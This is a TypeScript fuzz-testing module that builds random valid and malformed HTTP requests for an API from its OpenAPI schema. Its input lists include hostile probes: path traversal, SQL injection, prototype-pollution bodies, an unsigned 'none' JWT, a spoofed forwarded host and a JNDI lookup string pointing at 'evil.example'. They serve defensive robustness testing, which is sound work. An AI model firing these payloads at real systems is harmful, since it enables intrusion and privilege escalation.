/** Random API requests, generated from the OpenAPI document: valid ones, and valid ones with errors. */
import * as fc from 'fast-check';
import { CONSOLE_API } from '#contract/console/console-urls.ts';
import { type DescribedEndpoint, fieldsIn, type Schema } from './described-endpoints.ts';
import { HOSTILE_TEXTS, jsonWith, wrongTypeValues } from './hostile-values.ts';

export interface RandomRequest {
  readonly endpoint: DescribedEndpoint;
  readonly method: string;
  readonly url: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly body: string | undefined;
  /** Whose token it carries. */
  readonly caller: Caller;
}

export type Caller = 'nobody' | 'one' | 'two' | 'staff';

/** What requests contain besides the values of the OpenAPI document. */
export interface RequestData {
  readonly tokens: Readonly<Record<Exclude<Caller, 'nobody'>, string>>;
  /** Ids, emails and numbers that exist in the database. */
  readonly values: readonly string[];
  /** Valid bodies by `METHOD /path`. */
  readonly bodies: ReadonlyMap<string, unknown>;
}

const MALFORMED_SEGMENTS = [
  '',
  '%',
  '%00',
  '%ff',
  '%0a',
  '..%2f..',
  '__proto__',
  'constructor',
  "' or 1=1--",
  'ord_',
  `ord_${'0'.repeat(25)}`,
  'NL-261120-ZZZZZZ',
  '%E2%80%A8',
  '%F0%9F%A7%B5',
  'x'.repeat(299),
  '*',
  '.',
  '%2e',
  '-1',
  '1e9',
  'null',
  'undefined',
  'NaN',
  '{}',
  '%7B%22a%22:1%7D',
];

const MALFORMED_BODIES = [
  '',
  '{',
  '[]',
  'null',
  '"x"',
  '1e400',
  '{"a":1,"a":2}',
  '\ufeff{}',
  '{"__proto__":{"role":"staff"}}',
  '[[[[[[]]]]]]',
  'a=b&c=d',
  '\u0000',
  '{"a":"\\ud800"}',
];

const UNUSUAL_HEADERS: readonly (readonly [string, string])[] = [
  ['content-type', 'text/plain'],
  ['content-type', 'application/json; charset=utf-16'],
  ['content-type', 'multipart/form-data; boundary=x'],
  ['content-encoding', 'gzip'],
  ['accept', 'text/html'],
  ['accept-encoding', 'br;q=0, gzip;q=x, *'],
  ['if-none-match', '*'],
  ['range', 'bytes=0-0,-1'],
  ['x-forwarded-for', '::1, x'],
  ['x-forwarded-host', 'evil.example'],
  ['x-http-method-override', 'DELETE'],
  ['x-request-id', '${jndi:ldap://evil.example}'],
  ['cookie', 'a=b; __proto__=c'],
  ['idempotency-key', 'x'.repeat(256)],
  ['idempotency-key', 'k\u00e9y'],
  ['origin', 'null'],
  ['authorization', 'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ1c3JfMSJ9.'],
  ['authorization', 'Basic YTpi'],
];

const OTHER_METHODS = ['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'TRACE'];

/** A password hash costs as much as a hundred other requests, and a logout makes the next ones fail. */
const RARE = /auth\/(?:register|login|logout)|password|console\/session/;
const RARE_ENDPOINTS_ONE_IN = 12;

const CONSOLE = /^\/api\/console\//;

/** One of `first` in so many times, else `others`. */
function oneIn<Value>(
  times: number,
  first: fc.Arbitrary<Value>,
  others: fc.Arbitrary<Value>,
): fc.Arbitrary<Value> {
  return fc.oneof({ weight: 1, arbitrary: first }, { weight: times - 1, arbitrary: others });
}

const toOne = <Value>(values: readonly Value[]) => fc.constantFrom(...values);

export function randomRequests(
  endpoints: readonly DescribedEndpoint[],
  data: RequestData,
): fc.Arbitrary<RandomRequest> {
  const [rare, common] = [
    endpoints.filter(({ path }) => RARE.test(path)),
    endpoints.filter(({ path }) => !RARE.test(path)),
  ];
  return oneIn(RARE_ENDPOINTS_ONE_IN, toOne(rare), toOne(common)).chain(endpoint =>
    fc
      .record({
        method: oneIn(25, toOne(OTHER_METHODS), fc.constant<string>(endpoint.method)),
        url: randomUrl(endpoint, data),
        body: randomBody(endpoint, data),
        caller: randomCaller(endpoint),
        key: oneIn(3, fc.integer({ min: 0, max: 49 }), fc.constant(undefined)),
        unusual: oneIn(6, toOne(UNUSUAL_HEADERS), fc.constant(undefined)),
      })
      .map(({ method, url, body, caller, key, unusual }) => ({
        // Another method of the path may be an endpoint too, with responses of its own.
        endpoint:
          endpoints.find(other => other.path === endpoint.path && other.method === method) ?? endpoint,
        method,
        url,
        body,
        caller,
        headers: {
          ...(body === undefined ? {} : { 'content-type': 'application/json' }),
          // Of any state: the ETag of one cannot be guessed.
          ...(CONSOLE.test(endpoint.path) ? { 'if-match': '*' } : {}),
          ...(caller === 'nobody' ? {} : { authorization: `Bearer ${data.tokens[caller]}` }),
          ...(key === undefined ? {} : { 'idempotency-key': `key-${key}` }),
          ...(unusual === undefined ? {} : Object.fromEntries([unusual])),
        },
      })),
  );
}

/** Staff is excluded from endpoints that end its session; to others the console has one response only. */
function randomCaller({ path }: DescribedEndpoint): fc.Arbitrary<Caller> {
  if (path === CONSOLE_API.session) return fc.constant('nobody');
  if (CONSOLE.test(path)) return fc.constantFrom<Caller>('nobody', 'one', 'staff', 'staff', 'staff');
  const staff = /auth|password/.test(path) ? 'nobody' : 'staff';
  return fc.constantFrom<Caller>('nobody', 'one', 'one', 'one', 'two', 'two', staff);
}

function randomUrl({ path, query }: DescribedEndpoint, { values }: RequestData): fc.Arbitrary<string> {
  const segment = oneIn(3, toOne(MALFORMED_SEGMENTS), toOne(values).map(encodeURIComponent));
  const parts = path.split(/\{\w+\}/);
  const filled = fc
    .array(segment, { minLength: parts.length - 1, maxLength: parts.length - 1 })
    .map(segments => parts.map((part, index) => part + (segments[index] ?? '')).join(''));
  const queryValue = oneIn(3, fc.integer({ min: 0, max: 59 }).map(String), segment);
  const params = oneIn(8, fc.constant([...query, '__proto__', 'x']), fc.constant([...query])).chain(names =>
    fc.tuple(
      ...names.map(name =>
        oneIn(
          3,
          queryValue.map(value => `${name}=${value}`),
          fc.constant(''),
        ),
      ),
    ),
  );
  return fc.tuple(filled, params).map(([url, all]) => {
    const search = all.filter(Boolean).join('&');
    return search === '' ? url : `${url}?${search}`;
  });
}

function randomBody(
  { method, path, body: schema }: DescribedEndpoint,
  data: RequestData,
): fc.Arbitrary<string | undefined> {
  const malformed = toOne(MALFORMED_BODIES);
  if (schema === undefined) return oneIn(10, malformed, fc.constant(undefined));
  const known = data.bodies.get(`${method} ${path}`);
  const valid = (known === undefined ? toValue(schema, data) : fc.constant(known)).map(value =>
    JSON.stringify(value),
  );
  const withErrors = fc
    .tuple(valid, fc.array(fieldError(schema, data), { maxLength: 2 }))
    .map(([text, errors]) => errors.reduce((changed, change) => change(changed), text));
  const truncated = fc
    .tuple(withErrors, fc.integer({ min: 0, max: 200 }))
    .map(([text, length]) => text.slice(0, length));
  return oneIn(15, malformed, oneIn(40, truncated, withErrors));
}

/** Changes one field of a body: to another value of its type, or to one of a wrong type. */
function fieldError(schema: Schema, data: RequestData): fc.Arbitrary<(text: string) => string> {
  return toOne(fieldsIn(schema)).chain(({ path, schema: field }) => {
    const wrong = toOne([...wrongTypeValues(field), ...HOSTILE_TEXTS, 'undefined']);
    const other = toValue(field, data).map(value => JSON.stringify(value));
    return fc.oneof(other, wrong).map(value => text => replaceField(text, path, value));
  });
}

function replaceField(text: string, path: readonly (string | number)[], value: string): string {
  try {
    // `undefined` does not exist in JSON: it removes the field.
    return jsonWith(JSON.parse(text), path, value)
      .replace(/"[^"]*":undefined,?/, '')
      .replace(',}', '}');
  } catch {
    return text;
  }
}

/** A value of the type of a schema. */
function toValue(schema: Schema, data: RequestData): fc.Arbitrary<unknown> {
  if (schema.enum !== undefined) return toOne(schema.enum);
  if (schema.type === 'object') {
    const fields = Object.entries(schema.properties ?? {});
    return fc.record(Object.fromEntries(fields.map(([name, field]) => [name, toValue(field, data)])), {
      requiredKeys: [],
    });
  }
  if (schema.type === 'array') return fc.array(toValue(schema.items ?? {}, data), { maxLength: 3 });
  if (schema.type === 'boolean') return fc.boolean();
  if (schema.type === 'number' || schema.type === 'integer')
    return fc.constantFrom(0, 1, 2, 99, 100, -1, 1.005, 799, 942.82, 2 ** 53, -0);
  return toOne([...data.values, 'Meena', '9840012345', '600026', '', ' ', 'தறி', '=1+1', '<b>']);
}
